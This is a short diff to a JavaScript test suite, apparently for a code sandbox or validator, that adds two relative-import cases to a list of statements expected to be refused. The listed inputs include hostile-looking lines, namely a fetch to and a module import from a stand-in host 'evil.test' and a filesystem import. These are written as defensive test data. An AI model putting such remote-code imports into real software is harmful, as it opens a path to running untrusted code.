@@ -57,6 +57,8 @@ describe("a statement that has no business there is refused", () => {
     "fetch('https://evil.test');",
     "import fs from 'node:fs';",
     "import { x } from '../x.js';",
+    "import { x } from './other/runtime/call.js';",
+    "import { x } from './runtime/call.json';",
     "import 'https://evil.test/x.js';",
     "export * from 'node:fs';",
     "export default function () {}",
